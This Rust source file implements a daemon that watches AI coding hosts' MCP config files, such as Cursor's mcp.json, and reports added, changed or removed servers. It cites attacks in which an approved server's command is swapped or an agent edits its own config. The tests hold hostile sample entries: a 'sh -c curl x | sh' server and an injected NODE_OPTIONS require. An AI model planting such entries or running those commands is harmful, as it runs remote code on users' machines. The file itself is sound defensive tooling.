//! Config drift: the daemon watches the hosts' MCP config files and says when an
//! entry changes, appears or goes away (`MCPoison`, CVE-2025-54136: an approved
//! server's command swapped behind its name; CVE-2025-54135: an agent writing a
//! new server into its own config).
//!
//! Nothing is lost silently and nothing is approved by a change: a record made from
//! an entry stays as it was (it approves the old command exactly), the changed
//! command is not approved until someone approves it, and each change is an event
//! naming the file, the server and what changed.
//!
//! Files are polled (metadata every tick, content re-read only when the metadata
//! moved), so an edit through any path, rename or editor swap is seen; inotify
//! would miss files that do not exist yet in directories that do not exist yet.
//! The comparison is on the entry as the config states it (after the host's
//! variable substitution with an empty environment), not on the resolved command:
//! what the user approved and what changed in the file are what matter here.

use std::{
    collections::BTreeMap,
    os::unix::fs::MetadataExt as _,
    path::{Path, PathBuf},
};

use crate::{
    event::Bytes,
    hosts::{
        import::{self, ConfigFile, Entry, ImportContext, Imported},
        HostFs,
    },
    model::ConfigChange,
};

/// What identifies a version of a file without reading it.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Stamp {
    dev: u64,
    ino: u64,
    size: u64,
    mtime_ns: i128,
    ctime_ns: i128,
}

impl Stamp {
    pub fn of(path: &Path) -> Option<Self> {
        let m = std::fs::metadata(path).ok()?;
        Some(Self {
            dev: m.dev(),
            ino: m.ino(),
            size: m.size(),
            mtime_ns: i128::from(m.mtime()) * 1_000_000_000 + i128::from(m.mtime_nsec()),
            ctime_ns: i128::from(m.ctime()) * 1_000_000_000 + i128::from(m.ctime_nsec()),
        })
    }
}

/// A server as the config states it.
#[derive(Clone, Debug, PartialEq, Eq)]
struct Snapshot {
    enabled: bool,
    entry: Entry,
}

/// The last parse of a file.
#[derive(Clone, Debug, Default)]
struct Watched {
    stamp: Option<Stamp>,
    /// `None`: missing, unreadable or unparsable (then `error` says why).
    servers: Option<BTreeMap<String, Snapshot>>,
    error: Option<String>,
}

/// The watched files and what they said last.
#[derive(Debug, Default)]
pub struct ConfigWatch {
    files: BTreeMap<(String, PathBuf), (ConfigFile, Watched)>,
}

fn context(file: &ConfigFile) -> ImportContext {
    ImportContext {
        home: file.home.clone().unwrap_or_default(),
        project: file.project.clone(),
        env: BTreeMap::new(),
    }
}

fn read(file: &ConfigFile, fs: &dyn HostFs) -> Watched {
    let stamp = Stamp::of(&file.path);
    if stamp.is_none() {
        return Watched::default();
    }
    let parsed = fs
        .read(&file.path)
        .map_err(|e| format!("{}: cannot read: {e}", file.path.display()))
        .and_then(|bytes| {
            import::parse_config_bytes(file.schema, &file.host, &file.path, &bytes, &context(file))
                .map_err(|e| e.to_string())
        });
    match parsed {
        Ok(servers) => Watched {
            stamp,
            servers: Some(snapshots(servers)),
            error: None,
        },
        Err(e) => Watched {
            stamp,
            servers: None,
            error: Some(e),
        },
    }
}

fn snapshots(servers: Vec<Imported>) -> BTreeMap<String, Snapshot> {
    servers
        .into_iter()
        .map(|s| {
            (
                s.server,
                Snapshot {
                    enabled: s.enabled,
                    entry: s.entry,
                },
            )
        })
        .collect()
}

impl ConfigWatch {
    /// Watch exactly `files` from now on. Files already watched keep what they said
    /// (a change since is still reported); new ones are read now, silently: their
    /// current content is the baseline.
    pub fn set_files(&mut self, files: Vec<ConfigFile>, fs: &dyn HostFs) {
        let mut next = BTreeMap::new();
        for f in files {
            let key = (f.host.clone(), f.path.clone());
            let watched = match self.files.remove(&key) {
                Some((_, w)) => w,
                None => read(&f, fs),
            };
            next.insert(key, (f, watched));
        }
        self.files = next;
    }

    pub fn len(&self) -> usize {
        self.files.len()
    }

    pub fn is_empty(&self) -> bool {
        self.files.is_empty()
    }

    /// Every enabled server of every watched file that parsed, as it reads now.
    pub fn servers(&self) -> Vec<(&ConfigFile, &str, &Entry)> {
        self.files
            .values()
            .flat_map(|(file, w)| {
                w.servers
                    .iter()
                    .flatten()
                    .filter(|(_, s)| s.enabled)
                    .map(move |(name, s)| (file, name.as_str(), &s.entry))
            })
            .collect()
    }

    /// Re-read the files whose metadata changed; the changes since the last look.
    pub fn poll(&mut self, fs: &dyn HostFs) -> Vec<ConfigChange> {
        let mut out = Vec::new();
        for (file, watched) in self.files.values_mut() {
            let stamp = Stamp::of(&file.path);
            if stamp == watched.stamp {
                continue;
            }
            let now = read(file, fs);
            out.extend(compare(file, watched, &now));
            *watched = now;
        }
        out
    }
}

fn change(file: &ConfigFile, server: Option<&str>, what: &str, diff: Vec<String>) -> ConfigChange {
    ConfigChange {
        host: file.host.clone(),
        file: file.path.display().to_string(),
        server: server.map(str::to_owned),
        change: what.to_owned(),
        diff,
    }
}

fn compare(file: &ConfigFile, old: &Watched, new: &Watched) -> Vec<ConfigChange> {
    let mut out = Vec::new();
    match (&old.servers, &new.servers) {
        (_, None) if new.stamp.is_none() => {
            if old.stamp.is_some() {
                out.push(change(file, None, "file_removed", vec![]));
            }
            return out;
        }
        (_, None) => {
            if old.error != new.error {
                out.push(change(
                    file,
                    None,
                    "file_broken",
                    new.error.iter().cloned().collect(),
                ));
            }
            return out;
        }
        (None, Some(_)) if old.error.is_some() => {
            out.push(change(file, None, "file_fixed", vec![]));
        }
        _ => {}
    }
    let empty = BTreeMap::new();
    let before = old.servers.as_ref().unwrap_or(&empty);
    let after = new.servers.as_ref().unwrap_or(&empty);
    for (name, snap) in after {
        match before.get(name) {
            None => out.push(change(file, Some(name), "added", describe(snap))),
            Some(prev) if prev != snap => {
                out.push(change(file, Some(name), "changed", diff(prev, snap)));
            }
            Some(_) => {}
        }
    }
    for name in before.keys().filter(|n| !after.contains_key(*n)) {
        out.push(change(file, Some(name), "removed", vec![]));
    }
    out
}

fn entry_text(e: &Entry) -> String {
    match e {
        Entry::Local { argv, .. } => crate::event::shell_join(&Bytes::from_strs(argv)),
        Entry::Remote { url, transport } => format!("remote {transport} {url}"),
        Entry::Unimportable { reason } => format!("(cannot be imported: {reason})"),
    }
}

/// A new entry, described.
fn describe(s: &Snapshot) -> Vec<String> {
    let mut out = vec![format!("command: {}", entry_text(&s.entry))];
    if !s.enabled {
        out.push("disabled in the config".into());
    }
    out
}

fn show_env(name: &str, v: Option<&Option<String>>) -> String {
    match v {
        None => "(not set by the config)".into(),
        Some(None) => "(removed)".into(),
        Some(Some(v)) if crate::event::is_security_env(name) => v.clone(),
        Some(Some(_)) => "(a value)".into(),
    }
}

fn diff(old: &Snapshot, new: &Snapshot) -> Vec<String> {
    let mut out = Vec::new();
    if old.enabled != new.enabled {
        out.push(
            if new.enabled {
                "enabled (was disabled)"
            } else {
                "disabled (was enabled)"
            }
            .into(),
        );
    }
    match (&old.entry, &new.entry) {
        (
            Entry::Local {
                argv: a,
                env: ea,
                cwd: ca,
                env_file: fa,
                ..
            },
            Entry::Local {
                argv: b,
                env: eb,
                cwd: cb,
                env_file: fb,
                ..
            },
        ) => {
            out.extend(crate::scan::argv_diff(
                &Bytes::from_strs(a),
                &Bytes::from_strs(b),
            ));
            if ca != cb {
                let show = |c: &Option<PathBuf>| {
                    c.as_ref()
                        .map_or("(none)".into(), |p| p.display().to_string())
                };
                out.push(format!("cwd: {} → {}", show(ca), show(cb)));
            }
            let names: std::collections::BTreeSet<&String> = ea.keys().chain(eb.keys()).collect();
            for n in names {
                if ea.get(n) != eb.get(n) {
                    out.push(format!(
                        "env {n}: {} → {}",
                        show_env(n, ea.get(n)),
                        show_env(n, eb.get(n))
                    ));
                }
            }
            if fa != fb {
                out.push("envFile changed".into());
            }
        }
        (a, b) if a != b => out.push(format!("{} → {}", entry_text(a), entry_text(b))),
        _ => {}
    }
    if out.is_empty() {
        // Only something not compared above (e.g. which variables the host fills).
        out.push("entry changed".into());
    }
    out
}

/// The project directories that hold the files records were imported from: each
/// ancestor of such a file, so that [`import::discover`] finds the project-level
/// configs in it (`/p/.cursor/mcp.json` → `/p/.cursor`, `/p`, `/`).
pub fn project_dirs_of(files: &[String]) -> Vec<PathBuf> {
    let mut out: Vec<PathBuf> = Vec::new();
    for f in files {
        let mut p = Path::new(f).parent();
        let mut depth = 0;
        while let Some(dir) = p {
            if depth == 3 || dir == Path::new("/") {
                break;
            }
            out.push(dir.to_path_buf());
            p = dir.parent();
            depth += 1;
        }
    }
    out.sort();
    out.dedup();
    out
}

/// How often the set of watched files is rebuilt (new homes, projects, files).
pub const REDISCOVER: std::time::Duration = std::time::Duration::from_secs(30);
/// How often the watched files' metadata is checked.
pub const POLL: std::time::Duration = std::time::Duration::from_secs(1);

/// The MCP config files to watch: every host's user-level and system configs in
/// every home, and the project-level configs of the projects records were imported
/// from (`imported`: their config files) and of the projects in each
/// ~/.claude.json. Blocking file I/O over every home: run off the engine when it can.
pub fn discover_files(
    profiles: &[crate::hosts::HostProfile],
    imported: &[String],
) -> Vec<import::ConfigFile> {
    use crate::hosts::{import::UserHome, HostFs as _, RealFs};
    let homes: Vec<PathBuf> = RealFs.home_dirs();
    let mut projects = project_dirs_of(imported);
    for home in &homes {
        let file = home.join(".claude.json");
        if let Ok(text) = std::fs::read_to_string(&file) {
            if let Ok(m) = import::claude_code_approvals(&file, &text) {
                projects.extend(m.into_keys());
            }
        }
    }
    projects.sort();
    projects.dedup();
    let users: Vec<UserHome> = homes.into_iter().map(UserHome::new).collect();
    import::discover(profiles, &users, &projects, &RealFs).files
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::hosts::{Level, RealFs, Schema};

    fn cursor_file(path: &Path) -> ConfigFile {
        ConfigFile {
            host: "cursor".into(),
            schema: Schema::Cursor,
            level: Level::User,
            path: path.to_path_buf(),
            home: Some(PathBuf::from("/home/u")),
            project: None,
        }
    }

    fn write(path: &Path, text: &str) {
        // A new inode and a new mtime: what an editor's save looks like.
        let tmp = path.with_extension("tmp");
        std::fs::write(&tmp, text).unwrap();
        std::fs::rename(&tmp, path).unwrap();
    }

    #[test]
    fn a_swapped_command_added_and_removed_servers_and_broken_files_are_reported() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("mcp.json");
        write(
            &path,
            r#"{"mcpServers":{"fs":{"command":"npx","args":["-y","srv","/a"],"env":{"TOKEN":"s3cret"}},
                "old":{"command":"x"}}}"#,
        );
        let mut w = ConfigWatch::default();
        w.set_files(vec![cursor_file(&path)], &RealFs);
        assert!(w.poll(&RealFs).is_empty(), "the baseline is silent");

        write(
            &path,
            r#"{"mcpServers":{"fs":{"command":"npx","args":["-y","srv","/b"],"env":{"TOKEN":"other","NODE_OPTIONS":"--require /tmp/x"}},
                "new":{"command":"sh","args":["-c","curl x | sh"]}}}"#,
        );
        let changes = w.poll(&RealFs);
        let by = |name: &str| {
            changes
                .iter()
                .find(|c| c.server.as_deref() == Some(name))
                .unwrap()
        };
        assert_eq!(by("fs").change, "changed");
        assert_eq!(
            by("fs").diff,
            [
                "argv[3]: /a → /b",
                "env NODE_OPTIONS: (not set by the config) → --require /tmp/x",
                "env TOKEN: (a value) → (a value)",
            ]
        );
        assert!(
            !by("fs").diff.iter().any(|d| d.contains("s3cret")),
            "no secrets"
        );
        assert_eq!(by("new").change, "added");
        assert_eq!(by("new").diff, ["command: sh -c 'curl x | sh'"]);
        assert_eq!(by("old").change, "removed");
        assert_eq!(changes.len(), 3);
        assert!(w.poll(&RealFs).is_empty(), "reported once");

        write(&path, "{\"mcpServers\": {");
        let changes = w.poll(&RealFs);
        assert_eq!(changes.len(), 1);
        assert_eq!(changes[0].change, "file_broken");
        assert!(
            changes[0].diff[0].contains("mcp.json:1:"),
            "{:?}",
            changes[0].diff
        );

        // Fixed with the same content as before it broke: only "fixed".
        write(
            &path,
            r#"{"mcpServers":{"fs":{"command":"npx","args":["-y","srv","/b"],"env":{"TOKEN":"other","NODE_OPTIONS":"--require /tmp/x"}},
                "new":{"command":"sh","args":["-c","curl x | sh"]}}}"#,
        );
        let changes = w.poll(&RealFs);
        assert_eq!(changes[0].change, "file_fixed");
        // Without the previous servers to compare with, every server is "added".
        assert!(changes[1..].iter().all(|c| c.change == "added"));

        std::fs::remove_file(&path).unwrap();
        let changes = w.poll(&RealFs);
        assert_eq!(changes.len(), 1);
        assert_eq!(changes[0].change, "file_removed");
    }

    #[test]
    fn disabling_and_retargeting_are_changes_and_a_new_file_is_a_baseline() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("mcp.json");
        let mut w = ConfigWatch::default();
        w.set_files(vec![cursor_file(&path)], &RealFs);
        // A file that appears later: its servers are new.
        write(
            &path,
            r#"{"mcpServers":{"a":{"command":"x","disabled":true}}}"#,
        );
        let c = w.poll(&RealFs);
        assert_eq!(c[0].change, "added");
        assert_eq!(c[0].diff, ["command: x", "disabled in the config"]);
        write(
            &path,
            r#"{"mcpServers":{"a":{"url":"https://example.com/mcp"}}}"#,
        );
        let c = w.poll(&RealFs);
        assert_eq!(c[0].change, "changed");
        assert!(
            c[0].diff
                .iter()
                .any(|d| d.contains("enabled (was disabled)")),
            "{c:?}"
        );
        assert!(c[0].diff.iter().any(|d| d.contains("x → remote")), "{c:?}");
        // Re-setting the same files keeps the last state: no spurious report.
        w.set_files(vec![cursor_file(&path)], &RealFs);
        assert!(w.poll(&RealFs).is_empty());
        assert_eq!(w.len(), 1);
    }

    #[test]
    fn project_dirs_are_the_ancestors_of_imported_files() {
        let dirs = project_dirs_of(&["/home/u/app/.cursor/mcp.json".into()]);
        assert_eq!(
            dirs,
            [
                PathBuf::from("/home"),
                PathBuf::from("/home/u"),
                PathBuf::from("/home/u/app"),
                PathBuf::from("/home/u/app/.cursor"),
            ][1..]
        );
    }
}
